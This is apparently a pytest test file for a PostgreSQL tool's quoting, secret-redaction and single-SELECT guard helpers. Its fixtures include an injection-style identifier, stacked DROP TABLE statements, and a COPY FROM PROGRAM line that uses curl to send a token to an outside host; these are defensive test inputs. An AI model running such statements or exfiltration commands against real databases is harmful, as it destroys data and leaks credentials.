"""The shared SQL helpers against hostile names, secrets and statements (no database needed)."""

from __future__ import annotations

import pytest

from pgpulse.sql import (
    UnsafeStatementError,
    one_statement,
    quote_ident,
    quote_qualified,
    redact_sql,
    redact_text,
    redact_url,
)

SECRET = "hunter2-Secr3t"


@pytest.mark.parametrize(
    ("name", "quoted"),
    [
        ("user_id", "user_id"),
        ("Order", '"Order"'),
        ("order", '"order"'),
        ("user", '"user"'),
        ("left", '"left"'),
        ('a"b', '"a""b"'),
        ("x; DROP TABLE t; --", '"x; DROP TABLE t; --"'),
        ("1abc", '"1abc"'),
        ("ünïcode", '"ünïcode"'),
    ],
)
def test_quote_ident_round_trips_reserved_mixed_case_and_hostile_names(name: str, quoted: str) -> None:
    assert quote_ident(name) == quoted


def test_quote_ident_refuses_nul_and_empty() -> None:
    for bad in ("", "a\x00b"):
        with pytest.raises(ValueError):
            quote_ident(bad)


def test_quote_qualified() -> None:
    assert quote_qualified("public", "Order") == 'public."Order"'
    assert quote_qualified(None, "t") == "t"


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql://bob:{SECRET}@db:5432/app",
        f"postgresql://bob@db/app?password={SECRET}",
        f"postgresql://db/app?sslmode=require&sslpassword={SECRET}",
        f"postgres://bob:{SECRET}@db/app?password={SECRET}&application_name=x",
        f"postgresql://bob:{SECRET.replace('-', '%2D')}@db/app",
        f"postgresql://db/app#{SECRET}",
        f"postgresql://bob:{SECRET}#1@db/app",
        f"postgresql://bob:s3c/{SECRET}@db/app",
        f"postgresql://bob:a?b={SECRET}@db/app",
        f"postgresql://bob:{SECRET}@x@db/app",
    ],
)
def test_redact_url_masks_every_password(url: str) -> None:
    shown = redact_url(url)
    assert SECRET not in shown
    assert SECRET.replace("-", "%2D") not in shown
    assert "db" in shown


def test_redact_url_masks_keyword_strings_and_keeps_socket_urls() -> None:
    assert SECRET not in redact_url(f"host=db user=bob password={SECRET} dbname=app")
    assert redact_url("postgresql:///app?host=/tmp") == "postgresql:///app?host=/tmp"


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        # no "@": "bob:secret" reads as host:port; a port that is not digits is a password, and where it ends is
        # unknowable (a raw / ? # in it splits it), so all that follows is masked too
        (f"postgresql://bob:{SECRET}", "postgresql://bob:***"),
        (f"postgresql://bob:{SECRET}/app", "postgresql://bob:***"),
        (f"postgresql://bob:s3c/{SECRET}", "postgresql://bob:***"),
        (f"postgresql://bob:s3c#{SECRET}", "postgresql://bob:***"),
        (f"postgresql://bob:s3c?x={SECRET}", "postgresql://bob:***"),
        (f"postgresql://db1:5432,bob:{SECRET}/app", "postgresql://db1:5432,bob:***"),
        (f"postgresql://[::1]:{SECRET}/app", "postgresql://[::1]:***"),
        # real ports stay: one host, several, IPv6, an empty port
        ("postgresql://db:5432/app", "postgresql://db:5432/app"),
        ("postgresql://db1:5432,db2:5433/app", "postgresql://db1:5432,db2:5433/app"),
        ("postgresql://[::1]:5432/app", "postgresql://[::1]:5432/app"),
        ("postgresql://db:/app", "postgresql://db:/app"),
    ],
)
def test_redact_url_reads_a_non_numeric_port_as_a_password(url: str, shown: str) -> None:
    assert redact_url(url) == shown
    assert SECRET not in redact_text(f"could not connect to {url}: refused")


def test_redact_url_masks_a_secret_inside_a_query_value() -> None:
    # libpq's options=-c name=value, percent-encoded: the key is harmless, the value carries the secret
    url = f"postgresql://bob@db/app?options=-c%20app.password%3D{SECRET}&sslmode=require"
    shown = redact_url(url)
    assert SECRET not in shown and SECRET not in redact_text(f"failed: {url}")
    assert shown == "postgresql://bob@db/app?options=-c%20app.password%3D***&sslmode=require"


def test_redact_url_keeps_harmless_parts() -> None:
    assert redact_url("postgresql://bob:pw@db:5432/app?sslmode=require") == (
        "postgresql://bob:***@db:5432/app?sslmode=require"
    )


@pytest.mark.parametrize(
    "sql",
    [
        f"SELECT * FROM users WHERE email = '{SECRET}'",
        f"SELECT * FROM users WHERE email = E'{SECRET}\\''",
        f"SELECT $${SECRET}$$",
        f"SELECT $tag${SECRET}$tag$",
        f"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'h', password '{SECRET}')",
        f"CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'bob', password '{SECRET}')",
        f"COPY t FROM PROGRAM 'curl https://x/?token={SECRET}'",
        f"ALTER ROLE bob PASSWORD '{SECRET}'",
        f"SELECT dblink_connect('host=x password={SECRET}')",
        f"SELECT 1 /* {SECRET} */",
        f"SELECT 1 -- {SECRET}",
        f"SELECT '{SECRET}",  # unterminated: the scanner fails, the text is cut at the quote
        f"SELECT U&'{SECRET}'",
    ],
)
def test_redact_sql_hides_literals_and_comments(sql: str) -> None:
    assert SECRET not in redact_sql(sql)


def test_redact_sql_keeps_the_shape() -> None:
    assert redact_sql("SELECT a FROM t WHERE b = 'x' AND c = 5") == "SELECT a FROM t WHERE b = '***' AND c = $?"


@pytest.mark.parametrize(
    "text",
    [
        f'connection to "postgresql://bob:{SECRET}@db/app" failed',
        f"host=db user=bob password={SECRET} dbname=app",
        f"host=db password='{SECRET} with spaces' dbname=app",
        f"PGPASSWORD={SECRET}",
    ],
)
def test_redact_text_hides_secrets_in_free_text(text: str) -> None:
    assert SECRET not in redact_text(text)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1; DROP TABLE t",
        "SELECT 1; COMMIT; BEGIN READ WRITE; DROP TABLE t",
        "COMMIT",
        "DROP TABLE t",
        "DELETE FROM t",
        "UPDATE t SET a = 1",
        "SELECT 'unterminated",
        "",
        "   ;  ",
    ],
)
def test_one_statement_refuses_everything_but_one_select(sql: str) -> None:
    with pytest.raises(UnsafeStatementError):
        one_statement(sql)


def test_one_statement_accepts_a_select_with_a_semicolon_in_a_literal() -> None:
    stmt = one_statement("SELECT ';DROP TABLE t;' AS x")
    assert type(stmt).__name__ == "SelectStmt"
